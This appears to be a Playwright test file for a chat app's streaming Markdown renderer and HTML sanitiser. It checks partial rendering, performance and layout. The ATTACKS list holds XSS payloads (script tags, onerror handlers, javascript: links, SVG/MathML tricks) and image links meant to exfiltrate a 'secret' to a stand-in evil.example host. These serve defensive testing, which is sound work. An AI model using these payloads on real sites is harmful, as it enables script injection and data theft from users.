"""Markdown while it streams: what is made of it, that it costs little, and that nothing in it can do harm (row S7)."""

from __future__ import annotations

import asyncio
import random
import re
from typing import Any

import pytest
from playwright.async_api import expect

from tests.conftest import Launch, Serve
from tests.public.conftest import Visit, VisitPage
from tests.public.steps import by_hand, complete, opened
from tests.upstream_sim import ScriptedUpstream, answer

# Renders a text given in pieces; returns the HTML after each piece, as it looks while more may come, and at the end.
STREAM = """async (pieces) => {
  const {MarkdownText} = await import("/markdown.js");
  const element = document.createElement("div");
  const text = new MarkdownText(element);
  const seen = [];
  performance.now = () => 0; // renderings that take no time need no rest
  for (const piece of pieces) {
    text.append(piece);
    text.flush();
    seen.push(element.innerHTML);
  }
  text.end();
  return {seen, end: element.innerHTML};
}"""

# The same in pieces of each length, without waiting for frames; returns the ends that differ from the whole's.
AT_EVERY_CUT = """async ([source, steps]) => {
  const {MarkdownText} = await import("/markdown.js");
  performance.now = () => 0; // renderings that take no time need no rest
  const render = (pieces) => {
    const element = document.createElement("div");
    const text = new MarkdownText(element);
    for (const piece of pieces) {
      text.append(piece);
      text.flush();
    }
    text.end();
    element.normalize();
    return element;
  };
  const whole = render([source]);
  const ends = steps.map((step) => {
    const pieces = [];
    for (let at = 0; at < source.length; at += step) pieces.push(source.slice(at, at + step));
    return render(pieces);
  });
  return ends.filter((end) => !end.isEqualNode(whole)).map((end) => [whole.innerHTML, end.innerHTML]);
}"""

SAMPLE = """# Title

A paragraph with **bold**, *italic*, ~~gone~~, `code` and a [link](https://example.com/a_(b)).
A second line of it
- a list right behind it
- with **two
  lines** in an item

  and a paragraph
- [x] done
- [ ] not done

1. one
2. two

   ```js
   const a = "*not* emphasis";
   ```
3. three

> quoted
> **text**

| a | b |
|---|:-:|
| 1 | **2** |
| 3 | 4 |

```python
def f(x):
    return x * 2  # not *emphasis*, no [link](x

# no heading
```

Setext
------

***

Text with [a name] and <b>HTML</b> and &amp; and https://example.com.

[a name]: https://example.com/named "title"

    indented code

The end: a*b*c snake_case_word 2 * 3 * 4
"""


async def stream(page: Visit, *pieces: str) -> dict[str, Any]:
    rendered: dict[str, Any] = await page.page.evaluate(STREAM, list(pieces))
    return rendered


async def at_once(page: Visit, source: str) -> str:
    end: str = (await stream(page, source))["end"]
    return end


@pytest.fixture
async def page(serve: Serve, visit: VisitPage) -> Visit:
    """The page, for its modules: nothing is asked here."""
    return await visit((await serve()).url)


# ---- what is made of it


async def test_markdown_is_rendered_while_it_streams(
    launch: Launch, upstream: ScriptedUpstream, visit: VisitPage
) -> None:
    upstream.script = by_hand
    server = await launch(LLM_BASE_URL=upstream.base_url)
    page = await visit(server.url)
    await page.ask()
    call = await opened(upstream)
    await call.token("Some **bo")
    await expect(page.answer.locator("strong")).to_have_text("bo")
    await call.token("ld** text\n\n- one\n- t")
    await expect(page.answer.locator("li")).to_have_text(["one", "t"])
    await call.token("wo\n\n```py\nx = 1")
    await expect(page.answer.locator("pre code")).to_contain_text("x = 1")
    await expect(page.answer.locator(".code-language")).to_have_text("py")
    await call.token("\n```\n\nSee [it](https://exa")
    await expect(page.answer.locator("p").last).to_have_text("See it")
    await call.token("mple.com/).")
    link = page.answer.locator("a")
    await expect(link).to_have_attribute("href", "https://example.com/")
    await expect(link).to_have_attribute("target", "_blank")
    await expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    await complete(call)
    await page.reaches("done")
    await expect(page.answer.locator("strong")).to_have_text("bold")
    assert page.complaints == []


async def test_what_is_rendered_piece_by_piece_ends_as_what_is_rendered_whole(page: Visit) -> None:
    """However the tokens cut the text: blocks that were kept on the way are what they would have become anyway."""
    for source in (SAMPLE, SAMPLE.replace("\n", "\r\n")):
        assert await page.page.evaluate(AT_EVERY_CUT, [source, [1, 2, 3, 5, 7, 11, 17, 40, 100]]) == []


async def test_scrambled_markdown_too(page: Visit) -> None:
    """Lines of the sample in any order make nonsense, and the same nonsense piece by piece."""
    order = random.Random(6)
    for _ in range(12):
        lines = SAMPLE.splitlines(keepends=True)
        order.shuffle(lines)
        assert await page.page.evaluate(AT_EVERY_CUT, ["".join(lines), [1, 4, 30]]) == []


HALVES = [
    ("a **b", "<p>a <strong>b</strong></p>"),
    ("a **b*", "<p>a <strong>b</strong></p>"),
    ("a **", "<p>a</p>"),
    ("a *b **c", "<p>a <em>b <strong>c</strong></em></p>"),
    ("a ~~b", "<p>a <del>b</del></p>"),
    ("a `b *c", "<p>a <code>b *c</code></p>"),
    ("a `", "<p>a</p>"),
    ("a [b](https://x.y/z", "<p>a b</p>"),
    ("a ![b](https://x.y/z", "<p>a b</p>"),
    ("a [b](https://x.y/z_(w", "<p>a b</p>"),
    ('a [b](https://x.y/z "ti', "<p>a b</p>"),
    ("a [b](c d e", "<p>a [b](c d e</p>"),
    ("a [b](c) d", "<p>a <a>b</a> d</p>"),
    ("a [b", "<p>a [b</p>"),
    ("a * b", "<p>a * b</p>"),
    ("a_b_c", "<p>a_b_c</p>"),
    ("text:\n-", "<p>text:</p>"),
    ("text:\n- ", "<p>text:</p>"),
    ("text:\n1.", "<p>text:</p>"),
    ("text\n---", "<p>text</p>"),
    ("- a\n- **b", "<ul>\n<li>a</li>\n<li><strong>b</strong></li>\n</ul>"),
    ("# **a", "<h3><strong>a</strong></h3>"),
    ("> *a", "<blockquote>\n<p><em>a</em></p>\n</blockquote>"),
    ("#", ""),
    ("**", ""),
]


@pytest.mark.parametrize(("half", "shown"), HALVES, ids=[half for half, _ in HALVES])
async def test_what_is_half_written_looks_as_it_will(page: Visit, half: str, shown: str) -> None:
    """No marker flashes up as text, nor as a block that it will not be."""
    assert (await stream(page, half))["seen"] == [shown]


async def test_an_open_fence_is_code_and_nothing_in_it_is_mended(page: Visit) -> None:
    rendered = await stream(page, "```sh\necho **a [b](c", "\nls `", "\n``", "`\n")
    codes = [re.search(r"<code>(.*?)</code>", html, re.DOTALL) for html in rendered["seen"]]
    assert [code and code.group(1) for code in codes] == [
        "echo **a [b](c",
        "echo **a [b](c\nls `",
        "echo **a [b](c\nls `",  # the fence's end is under way
        "echo **a [b](c\nls `",
    ]


async def test_what_is_complete_is_rendered_once_and_kept(page: Visit) -> None:
    """A long answer costs what its blocks cost, not their square; and what the reader has selected stays selected."""
    kept = await page.page.evaluate("""async () => {
      const {MarkdownText} = await import("/markdown.js");
      const element = document.createElement("div");
      document.body.append(element);
      performance.now = () => 0;
      const text = new MarkdownText(element);
      const show = (piece) => {
        text.append(piece);
        text.flush();
      };
      show("first\\n\\nsecond **block** ");
      const [first, second] = element.children;
      getSelection().selectAllChildren(first);
      let changes = 0;
      const watch = {subtree: true, childList: true, characterData: true};
      new MutationObserver((records) => { changes += records.length; }).observe(first, watch);
      show("grows\\n\\n```\\ncode");
      const code = element.querySelector(".code");
      code.querySelector("button").focus();
      for (let line = 0; line < 50; line += 1) show(`\\nline ${line}`);
      const focused = document.activeElement === code.querySelector("button");
      show("\\n```\\n\\nlast");
      text.end();
      return [element.children[0] === first, element.children[1] === second, changes, focused,
              getSelection().toString().trim(), second.textContent];
    }""")
    assert kept == [True, True, 0, True, "first", "second block grows"]


async def test_a_long_answer_is_kept_to_the_letter_and_in_time(
    launch: Launch, upstream: ScriptedUpstream, visit: VisitPage
) -> None:
    """5,000 tokens in many blocks; no character, newline or half of an emoji is lost on the way to the clipboard."""
    lines = [f"{number}. {'word ' * (number % 23)}\n{'  indented 👍' * (number % 3)}\n\n" for number in range(300)]
    whole = "".join(lines) + "x" * 5000
    upstream.script = answer([whole[start : start + 5] for start in range(0, len(whole), 5)])
    server = await launch(LLM_BASE_URL=upstream.base_url)
    page = await visit(server.url)
    await page.ask()
    await page.reaches("done")
    await page.has_kept(whole)
    await page.page.get_by_role("article", name="Assistant").get_by_role("button", name="Copy").click()
    assert await page.page.evaluate("copied") == whole


# ---- nothing in it can do harm

EVIL = "https://evil.example"
ATTACKS = [
    "<script>window.harmed=1</script>",
    "<img src=x onerror=window.harmed=1>",
    f"<img src={EVIL}/1.png>",
    f"![exfiltrated]({EVIL}/2.png?secret)",
    f"[![nested]({EVIL}/3.png)](https://ok.example)",
    f"![named][pic]\n\n[pic]: {EVIL}/4.png",
    "<svg onload=window.harmed=1><animate onbegin=window.harmed=1 attributeName=x dur=1s></svg>",
    "<svg><style><img src=x onerror=window.harmed=1></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.harmed=1>",
    f"<style>@import '{EVIL}/5.css'; body {{background: url({EVIL}/6.png)}}</style>",
    f'<p style="background:url({EVIL}/7.png)">styled</p>',
    f"<iframe src={EVIL}/8></iframe><iframe srcdoc='<script>parent.harmed=1</script>'></iframe>",
    f"<object data={EVIL}/9></object><embed src={EVIL}/10>",
    f"<form action={EVIL}/11><input name=a autofocus onfocus=window.harmed=1><button>Send</button></form>",
    f"<link rel=stylesheet href={EVIL}/12.css><base href={EVIL}/><meta http-equiv=refresh content='0;url={EVIL}/13'>",
    f"<video src={EVIL}/14 onerror=window.harmed=1></video><audio src={EVIL}/15></audio>",
    "<details open ontoggle=window.harmed=1>x</details>",
    "[a](javascript:window.harmed=1)",
    "[b](JaVaScRiPt&colon;window.harmed=1)",
    "[c](java\tscript:window.harmed=1) [d](\x01javascript:window.harmed=1) [e](vbscript:x)",
    "[f](data:text/html,<script>parent.harmed=1</script>)",
    "<javascript:window.harmed=1>",
    '<a href="javascript:window.harmed=1">g</a>',
    f"[h](//evil.example/16) [i](/api/streams) [j](file:///etc/passwd) [k](blob:{EVIL}/x)",
    "[l]: javascript:window.harmed=1\n\n[l]",
    '[m](https://ok.example "onmouseover=window.harmed=1")',
    '[n](https://ok.example/"onmouseover=window.harmed=1)',
    "```<img src=x onerror=window.harmed=1>\n<script>window.harmed=1</script>\n```",
    "`<img src=x onerror=window.harmed=1>`",
    "<kbd><img src=x onerror=window.harmed=1></kbd> <kbd onclick=window.harmed=1>k</kbd>",
    "| <img src=x onerror=window.harmed=1> |\n|---|\n| <script>window.harmed=1</script> |",
    "# <img src=x onerror=window.harmed=1>",
    "<!--<img src=--><img src=x onerror=window.harmed=1>//-->",
    "<![CDATA[<img src=x onerror=window.harmed=1>]]> <?php x ?> <!DOCTYPE html>",
    '<b id="status" name="body" class="answer">clobber</b> <form id=documentElement>',
]


FORBIDDEN = (
    "img, script, svg, math, style, iframe, object, embed, form, input, link, base, meta, video, audio, details, "
    "[style], [id], [onclick], [onload], [onerror]"
)
MARKDOWN_TAGS = set(
    re.findall(
        r"\w+",
        """
    a blockquote br code del em h3 h4 h5 h6 hr kbd li ol p pre strong sub sup table tbody td th thead tr ul
    button div span
""",
    )
)


async def harmless(page: Visit, requests: int) -> None:
    """Nothing ran, nothing was asked for, and the only markup is what Markdown makes."""
    assert await page.page.evaluate("window.harmed") is None
    asked = [request for request in page.requests[requests:] if "/api/" not in request]
    assert [request for request in asked if not request.endswith("/icon.svg")] == []  # which is the page's own
    assert page.complaints == []
    names = "all => [...new Set(all.map(one => one.localName))].sort()"
    tags = await page.page.locator(".answer *").evaluate_all(names)
    assert set(tags) <= MARKDOWN_TAGS
    attributes = "all => [...new Set(all.flatMap(one => [...one.attributes].map(({name}) => name)))].sort()"
    assert set(await page.page.locator(".answer *").evaluate_all(attributes)) <= {
        "align", "aria-label", "class", "href", "rel", "start", "target", "title", "type",
    }  # fmt: skip
    links = await page.page.locator(".answer a[href]").evaluate_all("all => all.map(one => one.href)")
    assert all(link.startswith("https://") for link in links)


async def test_no_markup_of_a_model_runs_loads_or_leads_astray(
    launch: Launch, upstream: ScriptedUpstream, visit: VisitPage
) -> None:
    server = await launch(LLM_BASE_URL=upstream.base_url)
    page = await visit(server.url)
    requests = len(page.requests)
    upstream.script = answer([f"{attack}\n\n" for attack in ATTACKS])
    await page.ask()
    await page.reaches("done")
    await asyncio.sleep(0.5)  # for what would load or fire later
    await harmless(page, requests)
    await expect(page.answer).to_contain_text("<script>window.harmed=1</script>")  # as the text that it is

    requests = len(page.requests)
    await page.page.reload()  # nor out of what the browser has kept
    await page.reaches("done")
    assert await page.page.evaluate("window.harmed") is None
    assert not [request for request in page.requests[requests:] if not request.startswith(f"GET {server.url}")]


@pytest.mark.parametrize("nested", [">", "> ", "- "])
async def test_what_is_nested_too_deep_is_shown_as_it_was_written(
    launch: Launch, upstream: ScriptedUpstream, visit: VisitPage, nested: str
) -> None:
    """The parser recurses; where its stack ends the answer does not."""
    server = await launch(LLM_BASE_URL=upstream.base_url)
    page = await visit(server.url)
    upstream.script = answer(["First\n\n", nested * 5000, " deep"])
    await page.ask()
    await page.reaches("done")
    await expect(page.answer).to_contain_text("First")
    await expect(page.answer).to_contain_text("deep")
    assert page.complaints == []


async def test_nor_does_it_while_half_of_it_has_come(page: Visit) -> None:
    """Each attack is a state of its own at each of its characters, and mending must not complete it."""
    requests = len(page.requests)
    found = await page.page.evaluate(
        """async ([attacks, forbidden]) => {
      const {MarkdownText} = await import("/markdown.js");
      performance.now = () => 0; // so that each character is rendered
      const bad = [];
      for (const attack of attacks) {
        const element = document.createElement("div");
        document.body.append(element);
        const text = new MarkdownText(element);
        for (const character of `Look: ${attack}\\n\\n${attack}`) {
          text.append(character);
          text.flush();
          const evil = element.querySelector(forbidden);
          const links = [...element.querySelectorAll("a[href]")];
          if (evil !== null || links.some(({href}) => !href.startsWith("https://ok.ex"))) bad.push(element.innerHTML);
        }
        element.remove();
      }
      return bad;
    }""",
        [[attack for attack in ATTACKS if EVIL not in attack], FORBIDDEN],
    )
    assert found == []
    await harmless(page, requests)


async def test_the_sanitiser_alone_lets_nothing_through(page: Visit) -> None:
    """The second wall, should the first one, which takes a model's HTML for text, ever have a hole."""
    attacks = [*ATTACKS, f"<p><a href='{EVIL}' onclick=x target=_top>x</a><img src=x><b style=color:red id=a>b</b></p>"]
    html = await page.page.evaluate(
        """async (attacks) => {
      const {sanitise} = await import("/sanitise.js");
      return attacks.map((attack) => {
        const element = document.createElement("div");
        element.append(sanitise(attack));
        return element.innerHTML;
      });
    }""",
        attacks,
    )
    for made in html:
        assert not re.search(r"<(?!/?(?:a|b|p|kbd|table|h[1-6]|br|code|li|ul)\b)", made.replace("<b>", "")), made
        assert not re.search(r"<[^>]*\s(?:on\w+|style|src|id|name|action|srcdoc)=", made), made
    assert html[-1] == f'<p><a href="{EVIL}" target="_blank" rel="noopener noreferrer nofollow">x</a>b</p>'
    assert await page.page.evaluate("window.harmed") is None


async def test_a_table_and_long_code_scroll_in_their_own_boxes(
    launch: Launch, upstream: ScriptedUpstream, visit: VisitPage
) -> None:
    server = await launch(LLM_BASE_URL=upstream.base_url)
    page = await visit(server.url, viewport={"width": 360, "height": 740})
    row = "| " + " | ".join(["a wide cell"] * 12) + " |\n"
    upstream.script = answer([row, "|---" * 12 + "|\n", row, "\n```\n", "x" * 300, "\n```\n", "w" * 300])
    await page.ask()
    await page.reaches("done")
    assert await page.page.evaluate("document.scrollingElement.scrollWidth") <= 360
    for box in (".table", ".code pre"):
        wider = "one => one.scrollWidth > one.clientWidth && one.getBoundingClientRect().right <= innerWidth"
        assert await page.page.locator(box).evaluate(wider)
